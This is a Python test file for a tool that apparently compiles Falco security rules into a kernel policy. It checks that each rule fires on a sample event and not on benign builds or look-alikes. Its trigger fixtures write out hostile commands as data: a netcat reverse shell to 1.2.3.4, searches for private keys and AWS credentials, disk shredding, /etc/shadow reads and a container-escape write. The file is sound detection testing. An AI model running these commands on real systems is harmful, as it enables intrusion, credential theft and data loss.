"""Falco's own rules in the kernel: what they are true of, what they leave alone, and what they cost."""

from __future__ import annotations

import time
from collections.abc import Iterator
from functools import lru_cache
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bpfence import abi, evaluate
from bpfence.compiler.compile import Compiled, compile_policies
from bpfence.compiler.explain import sample
from bpfence.compiler.image import Walker
from bpfence.conditions.values import U64
from bpfence.dialects.falco.load import load_files, load_text
from bpfence.dialects.falco.lower.policies import MAX_ADDRESSES, policies, relaxed, smaller_versions
from bpfence.errors import CompileError
from bpfence.fields import EVENT_BY_NAME
from bpfence.policy import Action, Condition, Event, Policy, PolicySet, When, atoms
from tests.unit.compiler.random_policies import CONDITIONS, events
from tests.unit.dialects.falco.trees import corpus

HOST = "/user.slice/user-1000.slice/session-2.scope"
POD = "/kubepods.slice/kubepods-burstable.slice/cri-containerd-0123456789ab.scope"
AT_FDCWD = U64 + 1 - 100
FAILED = U64 + 1 - 2


@lru_cache(maxsize=1)
def stable() -> Policy:
    found, _ = load_files([corpus()])
    (policy,) = policies(found.rules)
    return policy


@lru_cache(maxsize=1)
def compiled() -> Compiled:
    return compile_policies(PolicySet((stable(),)))


def process(
    name: str, *args: str, cgroup: str = HOST, parents: tuple[str, ...] = ("make", "bash", "systemd"), **more: Any
) -> dict[str, Any]:
    """A process of uid 1000 with its parents, the nearest first."""
    return {
        "process.name": name,
        "process.exe": f"/usr/bin/{name}",
        "process.args": " ".join((name, *args)),
        "process.cwd": "/home/ann/build",
        "process.uid": 1000,
        "process.gid": 1000,
        "process.caps": 0,
        "process.cgroup": cgroup,
        "process.tty": 0,
        "process.exe_flags": 2,
        "process.pid": 4242,
        "process.parent.pid": 4000,
        "process.parent.name": parents[0],
        "process.parent.args": parents[0],
        "process.parent.exe": f"/usr/bin/{parents[0]}",
        "process.ancestors.name": parents,
        **more,
    }


def executed(name: str, *args: str, **more: Any) -> dict[str, Any]:
    return {"event": "process.executed", **process(name, *args, **more)}


def opened(path: str, who: dict[str, Any], *, access: int = abi.ACCESS_READ, flags: int = 0, **more: Any) -> dict[str, Any]:
    return {
        "event": "file.open", **who, "file.path": path, "file.text": path, "file.dirfd": AT_FDCWD, "file.access": access,
        "file.flags": flags,
        "file.uid": 0, "file.gid": 0, "file.ino": 5, "file.mode": 0o644, "file.fstype": "ext4", **more,
    }  # fmt: skip


def not_opened(text: str, who: dict[str, Any], *, dirfd: int = AT_FDCWD) -> dict[str, Any]:
    return {
        "event": "file.open_failed", **who, "file.text": text, "file.dirfd": dirfd, "file.access": abi.ACCESS_READ, "file.flags": 0,
        "call.result": FAILED,
    }  # fmt: skip


def connected(ip: str, port: int, who: dict[str, Any], *, family: int = 2) -> dict[str, Any]:
    return {
        "event": "net.connect", **who, "net.family": family, "net.type": 1, "net.protocol": 6, "net.peer.ip": ip, "net.peer.port": port,
        "net.local.ip": "0.0.0.0", "net.local.port": 0,
    }  # fmt: skip


def duplicated(result: int, who: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"event": "file.dup", **who, "call.result": result, "call.arg0": 7, **more}


def traced(request: int, who: dict[str, Any]) -> dict[str, Any]:
    return {"event": "process.trace", **who, "call.arg0": request, "call.arg1": 1, "call.result": 0}


def matching(event: dict[str, Any]) -> list[str]:
    """The rules that the reference evaluator finds; the image's walk must find the same."""
    found = sorted(rule.name for rule in stable().rules if rule.matches(event))
    walker = Walker(compiled().image)
    walks = walker.walk(abi.CONSTANTS[EVENT_BY_NAME[event["event"]].id], sample(compiled(), walker, event))
    assert sorted(compiled().rules[n].name for walk in walks for n in compiled().verdicts[walk.verdict].rules) == found
    return found


CC1 = process("cc1", "-quiet", "-I", "../include", "x.c", "-o", "/tmp/ccAb.s", parents=("gcc", "sh", "make", "bash"))
LOOSE_FAILURES = [
    "/usr/lib/gcc/x86_64-linux-gnu/12/../../../../include/y.h", "/usr/lib/gcc/x/../../../../x86_64-linux-gnu/lib/x/../lib/libfetch.so",
    "../include/y.h", "../../include/../etcetera.h", "/etc/ld.so.preload", "y.h", "/home/ann/../ann/x.h",
]  # fmt: skip


def build() -> Iterator[dict[str, Any]]:
    """What a build does outside of containers."""
    for path in ("/usr/include/stdio.h", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/etc/passwd", "/usr/share/locale/x"):
        for name in ("sh", "make", "gcc", "cc1", "python3", "ld"):
            yield opened(path, process(name))
            if path.startswith("/usr/"):
                yield opened(path, CC1, **{"file.text": "../../../usr/../" + path.lstrip("/")})
    yield opened("/home/ann/build/x.o", CC1, access=abi.ACCESS_WRITE, flags=0o1101)
    yield opened("/home/ann/build/config.log", process("sh"), access=abi.ACCESS_WRITE, flags=0o1101)
    yield opened("/home/ann/build/include", process("find"), flags=0o200000)
    for text in LOOSE_FAILURES:
        yield not_opened(text, CC1)
    yield not_opened("x.h", CC1, dirfd=5)
    commands = [
        ("sh", "-c", "gcc -c x.c -I../include"), ("make", "-j2", "all"), ("gcc", "-c", "x.c"), ("cc1", "-quiet", "x.c"), ("as", "-o",
        "x.o"),
        ("grep", "-q", "pattern", "config.h"), ("egrep", "private", "x.c"), ("find", ".", "-name", "*.c"), ("sed", "-e", "s/a/b/",
        "Makefile"),
        ("python3", "setup.py", "build"), ("bash", "./configure"), ("ssh-keygen", "-h"), ("rm", "-f", "x.o"), ("git", "status"),
    ]  # fmt: skip
    for command in commands:
        for parents in (("make", "bash", "systemd"), ("sh", "make", "bash", "gnome-terminal", "systemd")):
            who = executed(*command, parents=parents)
            yield who
            yield {**who, "event": "process.exec_failed", "call.result": FAILED, "call.text": "/usr/local/bin/x"}
    for ip, port in (("10.0.0.1", 443), ("192.168.1.7", 80), ("127.0.0.1", 8080), ("93.184.216.34", 443)):
        yield connected(ip, port, process("git-remote-https"))
    yield connected("10.0.0.1", 443, process("ssh", "git@host"))
    for result in (0, 1, 2, 9, FAILED):
        yield duplicated(result, process("sh"))
        yield duplicated(result, process("sh"), **{"net.family": 2})
    yield {"event": "file.symlink", **process("ln"), "file.target": "libx.so.1", "file.path": "/home/ann/build/libx.so"}
    yield {"event": "file.link", **process("ln"), "file.path": "/home/ann/build/a", "file.new_path": "/home/ann/build/b"}
    yield {"event": "net.create", **process("git"), "net.family": 2, "net.type": 1, "net.protocol": 6}


def test_a_build_concerns_no_rule() -> None:
    events = list(build())
    assert len(events) > 100
    assert [(event, found) for event in events if (found := matching(event))] == []


SHELL = executed("sh", "-c", "id", parents=("nginx", "systemd"))
TRIGGERS: dict[str, dict[str, Any]] = {
    "Directory traversal monitored file read": not_opened("/var/www/../../etc/../etc/shadow", process("nginx", parents=("systemd",))),
    "Read sensitive file trusted after startup": opened("/etc/shadow", process("nginx", parents=("systemd",))),
    "Read sensitive file untrusted": opened("/etc/shadow", process("cat", "/etc/shadow", parents=("bash", "login"))),
    "Run shell untrusted": SHELL,
    "System user interactive": executed("id", parents=("bash", "sshd", "systemd"), **{"process.uid": 33}),
    "Terminal shell in container": executed("bash", cgroup=POD, parents=("runc",), **{"process.tty": 34816}),
    "Contact K8S API Server From Container": connected("10.96.0.1", 443, process("curl", cgroup=POD)),
    "Netcat Remote Code Execution in Container": executed("nc", "-e", "/bin/sh", "1.2.3.4", "4444", cgroup=POD),
    "Search Private Keys or Passwords": executed("grep", "-r", "BEGIN RSA PRIVATE", "/"),
    "Clear Log Activities": opened("/var/log/syslog", process("sh"), access=abi.ACCESS_WRITE, flags=0o1001),
    "Remove Bulk Data from Disk": executed("shred", "/dev/sda"),
    "Create Symlink Over Sensitive Files": {"event": "file.symlink", **process("ln"), "file.target": "/etc/shadow", "file.path": "/tmp/x"},
    "Create Hardlink Over Sensitive Files": {"event": "file.link", **process("ln"), "file.path": "/etc/shadow", "file.new_path": "/tmp/x"},
    "Packet socket created in container": {
        "event": "net.create",
        **process("tcpdump", cgroup=POD),
        "net.family": 17,
        "net.type": 3,
        "net.protocol": 768,
    },
    "Redirect STDOUT/STDIN to Network Connection in Container": duplicated(1, process("sh", cgroup=POD), **{"net.family": 2}),
    "Linux Kernel Module Injection Detected": {
        "event": "kernel.module",
        **process("insmod", cgroup=POD, **{"process.caps": 1 << 16}),
        "file.path": "/tmp/x.ko",
    },
    "Debugfs Launched in Privileged Container": executed("debugfs", "/dev/sda1", cgroup=POD),
    "Detect release_agent File Container Escapes": opened(
        "/sys/fs/cgroup/x/release_agent", process("sh", cgroup=POD, **{"process.uid": 0, "process.caps": 1 << 21}), access=abi.ACCESS_WRITE
    ),
    "PTRACE attached to process": traced(16, process("gdb")),
    "PTRACE anti-debug attempt": traced(0, process("malware")),
    "Find AWS Credentials": executed("find", "/", "-name", ".aws/credentials"),
    "Execution from /dev/shm": executed("sh", "-c", "/dev/shm/x"),
    "Drop and execute new binary in container": executed("dropped", cgroup=POD, **{"process.exe_flags": 1}),
    "Disallowed SSH Connection Non Standard Port": connected("93.184.216.34", 443, process("ssh", "-p", "443", "host")),
    "Fileless execution via memfd_create": executed("x", **{"process.exe": "memfd:x", "process.exe_flags": 8}),
}


def test_there_is_an_event_for_each_rule() -> None:
    assert sorted(TRIGGERS) == sorted(rule.name for rule in stable().rules)


@pytest.mark.parametrize("name", TRIGGERS)
def test_each_rule_is_true_of_its_event(name: str) -> None:
    assert name in matching(TRIGGERS[name])


@pytest.mark.parametrize(
    "benign",
    [
        executed("bash", parents=("runc",), **{"process.tty": 34816}), executed("nc", "host", "80", cgroup=POD), executed("debugfs",
        "/dev/sda1"),
        executed("sh", "-c", "id", parents=("cron", "systemd")), executed("sh", "-c", "dpkg", parents=("apt", "nginx", "systemd")),
        duplicated(9, process("sh", cgroup=POD), **{"net.family": 2}), duplicated(1, process("sh", cgroup=POD)),
        executed("x", parents=("runc",), **{"process.exe": "memfd:x", "process.exe_flags": 8}), opened("/etc/shadow", process("sshd")),
        opened("/etc/shadow", process("cat"), access=abi.ACCESS_WRITE), traced(24, process("strace")), executed("old", cgroup=POD),
        not_opened("/var/www/../../etc/../etc/shadow", process("x", parents=("bash",))), not_opened("/etc/shadow", process("nginx")),
    ],
)  # fmt: skip
def test_benign_twins_concern_no_rule(benign: dict[str, Any]) -> None:
    assert matching(benign) == []


def test_the_results_that_rules_wait_for() -> None:
    results = {rule.name: rule.when for rule in stable().rules}
    only = {name for name, bits in results.items() if bits == When.SUCCESS}
    assert only == {
        "Read sensitive file trusted after startup", "Read sensitive file untrusted", "Clear Log Activities",
        "Detect release_agent File Container Escapes", "Redirect STDOUT/STDIN to Network Connection in Container",
    }  # fmt: skip
    assert {results[name] for name in results.keys() - only} == {When.SUCCESS | When.FAILURE}


def test_what_falcos_rules_cost() -> None:
    begin = time.process_time()
    made = compile_policies(PolicySet((stable(),)))
    assert time.process_time() - begin < 10
    assert len(made.rules) == 25
    assert made.unreachable == ()
    assert len(made.image) < 4 << 20
    assert len(made.dims) < 48
    assert len([dim for dim in made.dims if dim.kind == abi.DIM_ANCESTORS]) < 8
    assert sum(group.edges for group in made.stats.groups) < 150_000
    assert Walker(made.image).header["features"] & abi.IMAGE_DETAILS


RULES = """
- rule: Watched
  desc: d
  condition: evt.type=mkdir and proc.name=x
  output: o
  priority: ERROR
  tags: [a, b]
- rule: Blocked
  desc: d
  condition: evt.type=open and fd.name=/etc/shadow and evt.failed=false
  output: o
  priority: EMERGENCY
  bpfence: {action: deny, errno: EACCES}
- rule: Killed
  desc: d
  condition: evt.type=mkdir and proc.pname=x
  output: o
  priority: DEBUG
  bpfence: {action: kill}
- rule: Only audited
  desc: d
  condition: evt.type=rmdir and evt.failed=true
  output: o
  priority: NOTICE
  bpfence: {action: audit}
- rule: Never
  desc: d
  condition: evt.type=rmdir and evt.num=0
  output: o
  priority: NOTICE
"""


def test_two_policies() -> None:
    found, problems = load_text(RULES, "rules.yaml")
    assert not [problem for problem in problems if problem.severity == "error"]
    watching, enforcing = policies(found.rules)
    assert (watching.name, watching.mode, enforcing.name, enforcing.mode) == ("falco", "audit", "falco-enforce", "enforce")
    assert [(r.name, r.action, r.when, r.severity, r.tags, r.events, r.location.line) for r in watching.rules] == [
        ("Watched", Action.AUDIT, When.SUCCESS | When.FAILURE, "high", ("a", "b"), ("file.mkdir",), 2),
        ("Only audited", Action.AUDIT, When.FAILURE, "low", (), ("file.rmdir",), 20),
    ]
    assert [(r.name, r.action, r.errno, r.when, r.severity, r.events) for r in enforcing.rules] == [
        ("Blocked", Action.DENY, 13, When.DECIDED, "critical", ("file.open",)),
        ("Killed", Action.KILL, 1, When.DECIDED, "info", ("file.mkdir",)),
    ]
    assert {rule.policy for rule in watching.rules} == {"falco"}
    made = compile_policies(PolicySet((watching, enforcing)))
    assert {made.rules[n].name for verdict in made.verdicts for n in verdict.rules} == {"Watched", "Only audited", "Blocked", "Killed"}


@settings(max_examples=200, deadline=None)
@given(CONDITIONS, events(), st.sets(st.sampled_from(["process.name", "process.args", "process.uid", "file.path"])))
def test_what_is_given_up_is_let_through(condition: Condition, event: Event, fields: set[str]) -> None:
    less = relaxed(condition, fields)
    assert {atom.field for atom in atoms(less)}.isdisjoint(fields)
    assert evaluate.holds(less, event) or not evaluate.holds(condition, event)
    assert fields or evaluate.holds(less, event) == evaluate.holds(condition, event)


def test_rules_that_are_too_many_give_up_what_costs_most() -> None:
    """So few that the compiler does not widen them by itself, with a test each of 90 ancestors."""
    none = " and ".join(f"not proc.aname={{name}}{part}" for part in "abc")
    text = "- rule: R{n}\n  desc: d\n  condition: evt.type=open and fd.name=/x{n} and {none}\n  output: o\n  priority: INFO\n"
    found, _ = load_text("".join(text.format(n=n, none=none.format(name=f"x{n}")) for n in range(30)))
    (policy,) = policies(found.rules)
    tried: list[tuple[str, int]] = []
    for one, given_up in smaller_versions(policy):
        try:
            compile_policies(PolicySet((one,)))
        except CompileError as error:
            tried.append((error.diagnostics[0].code, len(given_up)))
            continue
        break
    assert tried == [("too-many-bits", count) for count in (0, 1, 3)]
    assert {atom.field for rule in one.rules for part in rule.conditions.values() for atom in atoms(part)} == {"file.path", "file.text"}
    assert [rule.name for rule in one.rules] == [f"R{n}" for n in range(30)]


def test_no_rules_are_no_policies() -> None:
    assert policies([]) == ()


def test_what_cannot_be_enforced_is_no_policy() -> None:
    found, _ = load_text(RULES.replace("proc.pname=x", "proc.sid=1"))
    with pytest.raises(ValueError, match=r"'Killed' cannot be enforced: proc\.sid = 1"):
        policies(found.rules)


def test_the_kernel_is_told_so_many_addresses_and_not_more() -> None:
    text = "- rule: R\n  desc: d\n  condition: evt.type=connect and fd.sip.name in (a.example, b.example)\n  output: o\n  priority: INFO\n"
    rules = load_text(text)[0].rules
    some = {"a.example": [f"10.0.{n >> 8}.{n & 255}" for n in range(MAX_ADDRESSES)], "b.example": ["10.0.0.7"]}

    def lets_through(hosts: dict[str, list[str]] | None, address: str) -> bool:
        found = policies(rules, hosts=hosts)
        return any(rule.matches({"event": "net.connect", "net.peer.ip": address}) for policy in found for rule in policy.rules)

    assert (lets_through(some, "10.0.3.255"), lets_through(some, "10.1.0.0")) == (True, False)
    assert compile_policies(PolicySet(policies(rules, hosts=some))).rules
    more = {**some, "b.example": ["10.2.0.0"]}
    assert lets_through(more, "10.1.0.0")
    assert lets_through(None, "10.1.0.0")
    assert policies(rules, hosts={"a.example": [], "b.example": []}) == ()
